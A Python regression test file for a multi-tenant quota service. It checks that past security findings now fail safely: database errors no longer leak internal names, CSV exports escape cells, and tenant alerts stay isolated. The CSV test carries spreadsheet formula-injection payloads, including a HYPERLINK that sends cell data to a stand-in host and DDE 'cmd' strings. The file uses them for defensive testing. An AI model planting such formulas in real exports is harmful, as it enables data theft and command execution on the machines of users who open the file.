"""Issue 13's findings, each reproduced as the attacker tried it, now failing safely: the
status and message a client sees, nothing written, the other tenant unaffected."""

from __future__ import annotations

import csv
import io
import json
import logging
import time
from decimal import Decimal
from typing import Any

import psycopg
import pytest
from quotaflow.backends import translate_db_error
from quotaflow.server.http import error_reply

from tests.functions_support import (
    Api,
    Conn,
    add_quota,
    api,
    error_of,
    event_body,
    execute_body,
    fake,
    jwks,
    log_rows,
    quota_row,
    world,
)

__all__ = ["api", "fake", "jwks", "world"]  # fixtures


# ---------------------------------------------------------------------------------------
# 6. Server-side faults: 5xx, a generic message and a correlation id
# ---------------------------------------------------------------------------------------


def test_a_database_fault_is_a_500_with_a_correlation_id_and_no_internal_names(
    api: Api, conn: Conn, caplog: pytest.LogCaptureFixture
) -> None:
    """An exhausted sequence (2200H) used to come back as 400 invalid_request quoting
    "quota_alerts_id_seq"; the detail now goes to the server log only."""
    add_quota(conn, api.world.org, "0.0001", metric="usd")
    conn.execute("select setval('public.quota_alerts_id_seq', 9223372036854775807)")
    with caplog.at_level(logging.ERROR, logger="quotaflow.functions"):
        r = api.post("track", event_body(api.world.org, request_id="crosses-80"), as_="key")
    assert r.status_code == 500
    err = error_of(r)
    assert err["code"] == "tracking_error" and err["message"] == "internal error"
    assert "quota_alerts" not in r.get_data(as_text=True) and len(err["correlation_id"]) == 32
    logged = [rec for rec in caplog.records if err["correlation_id"] in rec.getMessage()]
    assert logged and "quota_alerts_id_seq" in logged[0].getMessage()
    assert log_rows(conn, api.world.org) == []  # nothing half-written


def test_a_value_postgres_itself_refuses_is_a_400_without_its_internal_names(conn: Conn) -> None:
    with pytest.raises(psycopg.Error) as refused:
        conn.execute("insert into public.organizations (name) values ('')")
    body, status, _ = error_reply(translate_db_error(refused.value))
    assert status == 400 and body["error"]["code"] == "invalid_request"
    assert "organizations" not in body["error"]["message"] and body["error"]["correlation_id"]
    # quotaflow's own sentences (raise ... using errcode) stay as they are.
    with pytest.raises(psycopg.Error) as ours:
        conn.execute("select private.assert_time_zone('Mars/Olympus_Mons')")
    body, status, _ = error_reply(translate_db_error(ours.value))
    assert status == 400 and body["error"]["message"].startswith("invalid time zone")


# ---------------------------------------------------------------------------------------
# 9. Retry-After only when waiting can help
# ---------------------------------------------------------------------------------------


def test_retry_after_only_when_the_call_fits_the_limit_after_the_reset(
    api: Api, conn: Conn, fake: Any
) -> None:
    big = add_quota(conn, api.world.org, "0.01", metric="usd", quota_type="daily")
    conn.execute("update public.usage_quotas set current_usage = 0.0099 where id = %s", (big,))
    r = api.post("execute", execute_body(api.world.org), as_="key")
    assert r.status_code == 429 and error_of(r)["exceeds_limit"] is False
    assert int(r.headers["Retry-After"]) >= 1

    conn.execute("update public.usage_quotas set quota_limit = 0.0001, current_usage = 0"
                 " where id = %s", (big,))  # fmt: skip
    r = api.post("execute", execute_body(api.world.org), as_="key")
    err = error_of(r)
    assert r.status_code == 429 and "Retry-After" not in r.headers
    assert err["exceeds_limit"] is True and "whole limit" in err["message"]
    assert Decimal(err["requested"]) > Decimal(err["quota_limit"])
    assert quota_row(conn, big)["reserved"] == 0 and fake.request_count() == 0


# ---------------------------------------------------------------------------------------
# 3. CSV export: no formulas
# ---------------------------------------------------------------------------------------

FORMULAS = {
    "user_id": '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "session_id": "+1+cmd|' /C calc'!A0",
    "conversation_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "workflow_id": "-2+3",
}


def test_csv_export_escapes_every_cell_a_spreadsheet_would_evaluate(
    api: Api, capsys: pytest.CaptureFixture[str]
) -> None:
    """Identifiers starting with = + - @, recorded through the API with the org's key, come
    out of `quotaflow export --format csv` prefixed with ' (and unchanged in JSON)."""
    from quotaflow.cli import main

    r = api.post("track", event_body(api.world.org, request_id="=1+1", **FORMULAS), as_="key")
    assert r.status_code == 200, r.get_json()
    args = ["--database-url", api.world.db_url, "export", "--org", api.world.org, "--no-progress"]
    assert main([*args, "--format", "csv"]) == 0
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    for column, text in {**FORMULAS, "request_id": "=1+1"}.items():
        assert row[column] == "'" + text
    assert row["provider"] == "openai" and row["cost_usd"][0].isdigit()
    assert main([*args, "--format", "jsonl"]) == 0
    exported = json.loads(capsys.readouterr().out)
    assert {k: exported[k] for k in FORMULAS} == FORMULAS


# ---------------------------------------------------------------------------------------
# 4. LISTEN quotaflow_alerts: opaque ids only, re-read through RLS
# ---------------------------------------------------------------------------------------


def test_listening_as_anon_hears_only_opaque_ids(db_url: str, conn: Conn) -> None:
    from tests.test_alerts import call, make_org, make_quota

    org = make_org(conn)
    quota = make_quota(conn, org, 1, name="Secret project budget")
    with psycopg.connect(db_url, autocommit=True) as spy:
        spy.execute("set role anon")
        spy.execute("listen quotaflow_alerts")
        call(conn, org, "crosses")
        notes = list(spy.notifies(timeout=5, stop_after=2))
    assert notes, "the notification still fires"
    for note in notes:
        assert json.loads(note.payload) == {"quota_id": quota, "organization_id": org}
        assert "Secret" not in note.payload


def test_a_members_listener_receives_only_its_organizations_alerts(db_url: str, conn: Conn) -> None:
    """The listener re-reads alerts as its own role: a member's sees its organization only."""
    import queue
    import uuid as uuid_mod

    from psycopg.conninfo import make_conninfo
    from quotaflow.reports.analytics import AlertListener, QuotaAlert

    from tests.db import new_auth_user
    from tests.test_alerts import WAIT, call, make_org, make_quota

    mine, theirs = make_org(conn), make_org(conn)
    member = new_auth_user(conn)
    conn.execute("insert into public.organization_members values (%s, %s, 'member')",
                 (mine, member))  # fmt: skip
    my_quota, _ = make_quota(conn, mine, 1), make_quota(conn, theirs, 1)
    claims = json.dumps({"sub": str(member), "role": "authenticated"}, separators=(",", ":"))
    as_member = make_conninfo(
        db_url, options=f"-c role=authenticated -c request.jwt.claims={claims}"
    )
    got: queue.Queue[QuotaAlert] = queue.Queue()
    with AlertListener(as_member) as listener:
        listener.add(got.put)  # every organization it can see
        call(conn, theirs, f"t-{uuid_mod.uuid4()}")
        call(conn, mine, f"m-{uuid_mod.uuid4()}")
        received = [got.get(timeout=WAIT), got.get(timeout=WAIT)]
        time.sleep(0.5)
        assert got.empty()
    assert {a.organization_id for a in received} == {mine}
    assert {a.quota_id for a in received} == {my_quota}
